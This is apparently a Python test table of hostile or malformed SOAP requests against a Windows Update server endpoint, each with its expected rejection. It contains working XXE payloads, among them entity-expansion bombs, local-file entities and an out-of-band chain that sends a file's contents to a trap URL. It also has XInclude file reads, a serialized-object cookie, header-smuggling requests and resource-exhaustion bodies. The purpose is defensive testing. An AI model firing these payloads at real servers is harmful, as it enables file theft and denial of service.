"""What no Windows Update Agent sends: a table of requests, each with the answer it must get.

An answer is a status, or a word:

	ok		200
	client		a SOAP fault of the client's without detail of MS-WUSP
	anything else	the ErrorCode of a fault, with the Message after a colon
"""
import base64
from collections import namedtuple

CLIENT = 'http://www.microsoft.com/SoftwareDistribution/Server/ClientWebService'
REPORTING = 'http://www.microsoft.com/SoftwareDistribution'
SOAP_11 = 'http://schemas.xmlsoap.org/soap/envelope/'
SOAP_12 = 'http://www.w3.org/2003/05/soap-envelope'
MIB = 1024 * 1024

# `head`: more lines of the request's head; of the usual ones, `drop` are left out.
Attack = namedtuple('Attack', 'name body answer head drop path method operation')


def attack(name, body, answer='client', head=(), drop=(), path='ClientWebService/client.asmx',
           method='POST', operation='GetConfig'):
    body = body if isinstance(body, bytes) else body.encode()
    return Attack(name, body, answer, tuple(head), tuple(drop), path, method, operation)


def envelope(content, before='', attributes='', space=SOAP_11, header=''):
    return (f'{before}<s:Envelope xmlns:s="{space}"{attributes}>{header}<s:Body>{content}'
            '</s:Body></s:Envelope>')


def operation(name, content, space=CLIENT):
    return f'<{name} xmlns="{space}">{content}</{name}>'


def config(version, before='', **more):
    return envelope(operation('GetConfig', f'<protocolVersion>{version}</protocolVersion>'),
                    before, **more)


def sync(cookie, parameters):
    return envelope(operation('SyncUpdates',
                              f'{cookie}<parameters><ExpressQuery>false</ExpressQuery>'
                              f'{parameters}<SkipSoftwareSync>false</SkipSoftwareSync>'
                              '</parameters>'))


def ints(name, numbers):
    return f'<{name}>' + ''.join(f'<int>{n}</int>' for n in numbers) + f'</{name}>'


def good_sync(cookie):
    """A body of 6 KB, as a machine sends it that has much."""
    return sync(cookie, ints('InstalledNonLeafUpdateIDs', range(1000, 1094)) +
                ints('OtherCachedUpdateIDs', range(2000, 2200)))


def entities(secret_file, trap_url):
    laughs = '<!ENTITY l0 "ha">' + ''.join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    big = '<!ENTITY big "' + 'x' * 50000 + '">'

    def typed(subset, use='&e;'):
        return config(use, before=f'<!DOCTYPE x [{subset}]>')

    rows = {
        'an internal entity': typed('<!ENTITY e "1.8">'),
        'a billion laughs': typed(laughs, '&l11;'),
        'a quadratic blow-up': typed(big, '&big;' * 5000),
        'a recursive entity': typed('<!ENTITY e "&f;"><!ENTITY f "&e;">'),
        'an entity of itself': typed('<!ENTITY e "&e;">'),
        'a file as entity': typed(f'<!ENTITY e SYSTEM "file://{secret_file}">'),
        'a page as entity': typed(f'<!ENTITY e SYSTEM "{trap_url}entity">'),
        'a public entity': typed(f'<!ENTITY e PUBLIC "-//x//y" "{trap_url}public">'),
        'a parameter entity': typed('<!ENTITY % p "<!ENTITY e \'1.8\'>"> %p;'),
        'a parameter entity of itself': typed('<!ENTITY % p "&#37;p;"> %p;', '1'),
        'a parameter entity elsewhere':
            typed(f'<!ENTITY % p SYSTEM "{trap_url}parameter"> %p;', '1'),
        'a file that is sent away':
            typed(f'<!ENTITY % f SYSTEM "file://{secret_file}"><!ENTITY % q '
                  f'"<!ENTITY &#37; s SYSTEM \'{trap_url}?%f;\'>"> %q; %s;', '1'),
        'a DOCTYPE elsewhere': config('1', f'<!DOCTYPE x SYSTEM "{trap_url}dtd">'),
        'a DOCTYPE of a file': config('1', f'<!DOCTYPE x SYSTEM "file://{secret_file}">'),
        'an unparsed entity':
            typed(f'<!NOTATION n SYSTEM "n"><!ENTITY e SYSTEM "{trap_url}n" NDATA n>', '1'),
        'an attribute by default': typed('<!ATTLIST x a CDATA "&e;">', '1'),
        'a DOCTYPE that never ends': '<!DOCTYPE x [' + '<!ENTITY a "b">' * 200000,
        'a DOCTYPE behind a comment': config('1', '<!-- x --><!DOCTYPE x []>'),
        'a DOCTYPE in the Body': envelope('<!DOCTYPE x [<!ENTITY e "1">]>&e;'),
        'a doctype in small letters': config('1', '<!doctype x []>'),
        'an entity of no DOCTYPE': config('&e;'),
        'a style sheet': config('1', f'<?xml-stylesheet href="{trap_url}xsl"?>'),
        'an instruction in a text': config('1<?php echo 1 ?>'),
    }
    return [attack(name, body) for name, body in rows.items()]


def inclusions(secret_file, trap_url):
    xi = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    file = f'<xi:include {xi} href="file://{secret_file}" parse="text"/>'
    page = f'<xi:include {xi} href="{trap_url}include"/>'
    xsi = ('xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
           f'xsi:schemaLocation="{CLIENT} {trap_url}schema"')
    return [
        attack('XInclude of a file for the message', envelope(file)),
        attack('XInclude of a page for the message', envelope(page)),
        attack('XInclude of a file among the fields',
               envelope(operation('GetConfig', file)), 'ok'),
        attack('XInclude of a page among the fields',
               envelope(operation('GetConfig', page)), 'ok'),
        attack('XInclude of a file as the clientId',
               envelope(operation('GetAuthorizationCookie', f'<clientId>{file}</clientId>',
                                  'http://www.microsoft.com/SoftwareDistribution/Server/'
                                  'SimpleAuthWebService')), None,
               drop=['SOAPAction'], path='SimpleAuthWebService/SimpleAuth.asmx'),
        attack('a schema elsewhere', config('1', attributes=f' {xsi}'), 'ok'),
    ]


def encodings():
    plain, said = config('1'), '<?xml version="1.0" encoding="%s"?>'
    utf16 = said % 'UTF-16' + plain
    rows = {
        'UTF-16, little end first': b'\xff\xfe' + utf16.encode('utf-16-le'),
        'UTF-16, big end first': b'\xfe\xff' + utf16.encode('utf-16-be'),
        'UTF-16 without a mark': utf16.encode('utf-16-le'),
        'UTF-32': utf16.replace('16', '32').encode('utf-32'),
        'UTF-7': (said % 'UTF-7' + plain).replace('<s:', '+ADw-s:'),
        'UTF-7, only declared': said % 'UTF-7' + plain,
        'EBCDIC': (said % 'IBM037' + plain).encode('cp037'),
        'EBCDIC, only declared': said % 'IBM037' + plain,
        'UTF-16, only declared': utf16,
        'a mark of UTF-8 before UTF-16': b'\xef\xbb\xbf' + utf16.encode('utf-16-le'),
        'a mark of UTF-16 before UTF-8': b'\xff\xfe' + plain.encode(),
        'a mark twice': b'\xef\xbb\xbf' * 2 + plain.encode(),
        'Latin 1': said % 'ISO-8859-1' + plain,
        'an encoding of no name': said % '' + plain,
        'an encoding of a long name': said % ('x' * 100000) + plain,
        'XML 1.1': '<?xml version="1.1"?>' + plain,
        'a declaration too late': ' <?xml version="1.0"?>' + plain,
        'a long form of "<"': config('1').encode().replace(b'>1<', b'>\xc0\xbc<'),
        'half a surrogate': config('1').encode().replace(b'>1<', b'>\xed\xa0\x80<'),
        'past the last character': config('1').encode().replace(b'>1<', b'>\xf5\x80\x80\x80<'),
        'half a character': config('1').encode().replace(b'>1<', b'>\xe2\x82<'),
    }
    utf16_head = ['Content-Type: text/xml; charset=utf-16']
    return [attack(name, body) for name, body in rows.items()] + [
        attack('UTF-16 by the head', plain, 415, utf16_head, ['Content-Type']),
        attack('gzip', plain, 415, ['Content-Encoding: gzip']),
        attack('xpress', plain, 415, ['Content-Encoding: xpress']),
    ]


def sizes(cookie):
    many = ''.join(f' a{n}="x"' for n in range(20000))
    spaces = ''.join(f' xmlns:n{n}="urn:{n}"' for n in range(20000))
    deep = '<a>' * 100000

    def around(content, name='GetConfig'):
        return envelope(operation(name, content))

    return [
        attack('40 levels', around('<a>' * 40 + '</a>' * 40)),
        attack('100,000 levels', around(deep + '</a>' * 100000)),
        attack('100,000 levels in the header',
               config('1', header=f'<s:Header>{deep}{"</a>" * 100000}</s:Header>')),
        attack('a million tags that never end', '<a>' * 1000000),
        attack('20,000 attributes', around(f'<a{many}/>')),
        attack('20,000 attributes of the Envelope', config('1', attributes=many)),
        attack('20,000 times one attribute', around('<a' + ' b="c"' * 20000 + '/>')),
        attack('20,000 name spaces', around(f'<a{spaces}/>')),
        attack('an attribute of 3 MB', around(f'<a b="{"x" * 3 * MIB}"/>')),
        attack('a name of 3 MB', around(f'<{"x" * 3 * MIB}/>')),
        attack('a name space of 3 MB', config('1', attributes=f' xmlns:n="{"x" * 3 * MIB}"')),
        attack('text of 5 MB', config('x' * 5 * MIB), 413),
        attack('an announced body of 10 GB', b'', 413, ['Content-Length: 10737418240'],
               ['Content-Length']),
        attack('text of 3.9 MB', config('x' * (39 * MIB // 10)), None),
        attack('3.9 MB of white space', config(' ' * (39 * MIB // 10)), None),
        attack('3 MB of comment', config('1', header=f'<!--{"-x" * (3 * MIB // 2)}-->'), 'ok'),
        attack('200,000 comments', around('<!---->' * 200000), 'ok'),
        attack('200,000 pieces of CDATA', config('<![CDATA[x]]>' * 200000), None),
        attack('500,000 references', config('&amp;' * 500000), None),
        attack('a million elements', around('<a/>' * 1000000)),
        attack('300,000 unknown elements', around('<a/>' * 300000), 'ok'),
        attack('401 installed updates',
               sync(cookie, ints('InstalledNonLeafUpdateIDs', range(401))),
               'InvalidParameters:parameters.InstalledNonLeafUpdateIDs',
               operation='SyncUpdates'),
        attack('250,000 cached updates',
               sync(cookie, ints('OtherCachedUpdateIDs', [7] * 250000)),
               'InvalidParameters:parameters.OtherCachedUpdateIDs', operation='SyncUpdates'),
        attack('an update id of 100 digits',
               sync(cookie, ints('OtherCachedUpdateIDs', ['9' * 100])),
               'InvalidParameters:parameters.OtherCachedUpdateIDs', operation='SyncUpdates'),
    ]


def new_names(turn):
    """Elements, attributes, prefixes and name spaces that no message had before."""
    names = ''.join(f'<e{turn}n{n} a{turn}n{n}="" xmlns:p{turn}n{n}="urn:{turn}n{n}"/>'
                    for n in range(5000))
    return attack('names never seen', envelope(operation('GetConfig', names)), 'ok')


def name_spaces(cookie):
    redeclared = good_sync(cookie).replace('<parameters>', '<parameters xmlns="urn:other">')
    return [
        attack('a prefix of nothing', config('1').replace('<protocol', '<q:protocol')),
        attack('a prefix of nothing on the Envelope',
               config('1').replace('<s:Envelope', '<t:Envelope')),
        attack('a prefix of nothing on an attribute', config('1', attributes=' q:a="b"')),
        attack('xmlns="" for the message', envelope('<GetConfig xmlns=""/>')),
        attack('no name space for the message', envelope('<GetConfig/>')),
        attack('the name space of another service',
               envelope(operation('GetConfig', '', REPORTING))),
        attack('xmlns="" for the fields',
               good_sync(cookie).replace('<parameters>', '<parameters xmlns="">'),
               'InvalidParameters:parameters', operation='SyncUpdates'),
        attack('another name space for the fields', redeclared, 'InvalidParameters:parameters',
               operation='SyncUpdates'),
        attack('another envelope', config('1', space='urn:envelope')),
        attack('an envelope of two versions',
               config('1').replace('<s:Body>', f'<s:Body xmlns:s="{SOAP_12}">')
               .replace('</s:Body>', '</s:Body>')),
        attack('the prefix xml bound anew', config('1', attributes=' xmlns:xml="urn:x"')),
        attack('the prefix xmlns bound', config('1', attributes=' xmlns:xmlns="urn:x"')),
        attack('a prefix unbound', config('1', attributes=' xmlns:q=""')),
        attack('a name of two colons', config('1').replace('protocolVersion', 'a:b:c')),
        attack('a name of a colon alone', config('1').replace('protocolVersion', ':')),
        attack('one attribute under two prefixes',
               config('1', attributes=' xmlns:p="u" xmlns:q="u" p:a="1" q:a="2"')),
    ]


def bytes_apart():
    plain = config('1').encode()
    reference = {'a reference to NUL': '&#0;', 'a reference to U+FFFE': '&#xFFFE;',
                 'a reference to a surrogate': '&#xD800;',
                 'a reference past the last': '&#x110000;',
                 'a reference of 100,000 digits': '&#' + '9' * 100000 + ';',
                 'a bell': '\a', '"]]>" in a text': ']]>', 'a bare "&"': '&', 'a bare "<"': '<'}
    return [
        attack('NUL in a text', plain.replace(b'>1<', b'>1\0<')),
        attack('NUL in a name', plain.replace(b'protocolVersion', b'protocol\0Version')),
        attack('NUL in an attribute', plain.replace(b'envelope/"', b'envelope/\0"')),
        attack('NUL first', b'\0' + plain),
        attack('NUL last', plain + b'\0'),
        attack('a million NULs', b'\0' * 1000000),
        attack('NUL in the SOAPAction', plain, 400, [b'SOAPAction: "\0"'], ['SOAPAction']),
        attack('no body', b'', 'client'),
        attack('white space', b' ' * 1000),
        attack('JSON', b'{"GetConfig": {}}'),
        attack('JSON by the head', b'{"GetConfig": {}}', 415,
               ['Content-Type: application/json'], ['Content-Type']),
        attack('no type', plain, 415, drop=['Content-Type']),
        attack('noise', bytes(n * n * 7 % 251 for n in range(20000))),
        attack('one document more', plain + plain),
        attack('text behind the document', plain + b'x'),
    ] + [attack(name, config(text)) for name, text in reference.items()]


def heads():
    plain = config('1')
    other = f'SOAPAction: "{CLIENT}/SyncUpdates"'
    length = f'Content-Length: {len(plain)}'
    two = ['SOAPAction'], ['Content-Length']
    return [
        attack('the SOAPAction of another operation', plain, 'client', [other], two[0]),
        attack('the SOAPAction of another service', plain, 'client',
               [f'SOAPAction: "{REPORTING}/GetConfig"'], two[0]),
        attack('the SOAPAction cut short', plain, 'client', [f'SOAPAction: "{CLIENT}/GetConf"'],
               two[0]),
        attack('a SOAPAction without its end', plain, 'ok', [f'SOAPAction: "{CLIENT}/GetConfig'],
               two[0]),
        attack('a SOAPAction of 15 KB', plain, 'client', [f'SOAPAction: "{"x" * 15000}"'], two[0]),
        attack('a SOAPAction of 20 KB', plain, 431, [f'SOAPAction: "{"x" * 20000}"'], two[0]),
        attack('100 lines of head', plain, 431, ['X: y'] * 100),
        attack('two lengths', plain, 400, [length, 'Content-Length: 5'], two[1]),
        attack('a length below zero', plain, 400, ['Content-Length: -1'], two[1]),
        attack('a length and chunks', plain, 400, ['Transfer-Encoding: chunked']),
        attack('GET', b'', 405, method='GET'),
        attack('PUT', plain, 405, method='PUT'),
        attack('another path', b'', 404, path='ClientWebService/client.asmx/secured'),
    ]


def messages(cookie):
    once = operation('GetConfig', '')
    must = '<s:Header><a xmlns="urn:a" s:mustUnderstand="1"/></s:Header>'
    formatter = base64.b64encode(b'\0\1\0\0\0\xff\xff\xff\xff\1' + bytes(100)).decode()
    forged = cookie[:cookie.index('<EncryptedData>')]

    def cookied(data):
        return sync(f'{forged}<EncryptedData>{data}</EncryptedData></cookie>', '')

    return [
        attack('two operations', envelope(once + once)),
        attack('two bodies', envelope(once).replace('</s:Body>', '</s:Body><s:Body/>')),
        attack('two headers', config('1', header='<s:Header/><s:Header/>')),
        attack('a header that must be understood, in a second Header',
               config('1', header='<s:Header/>' + must)),
        attack('a Header behind the Body',
               envelope(once).replace('</s:Body>', '</s:Body><s:Header/>')),
        attack('a header that must be understood', config('1', header=must)),
        attack('an empty Body', envelope('')),
        attack('no Body', f'<s:Envelope xmlns:s="{SOAP_11}"/>'),
        attack('an Envelope in the Body', envelope(envelope(once))),
        attack('a fault', envelope('<s:Fault><faultcode>s:Client</faultcode></s:Fault>')),
        attack('an answer', envelope(operation('GetConfigResponse', ''))),
        attack('an operation of no service', envelope(operation('Exec', ''))),
        attack('no cookie', sync('', ''), 'InvalidParameters:cookie', operation='SyncUpdates'),
        attack('a serialised object as cookie', cookied(formatter), 'InvalidCookie',
               operation='SyncUpdates'),
        attack('a cookie of 3 MB', cookied('AAAA' * (3 * MIB // 4)), 'InvalidCookie',
               operation='SyncUpdates'),
        attack('a cookie that is no base64', cookied('<![CDATA[&&&&]]>'), None,
               operation='SyncUpdates'),
    ]


def table(cookie, secret_file, trap_url):
    return (entities(secret_file, trap_url) + inclusions(secret_file, trap_url) + encodings() +
            sizes(cookie) + name_spaces(cookie) + bytes_apart() + heads() + messages(cookie))
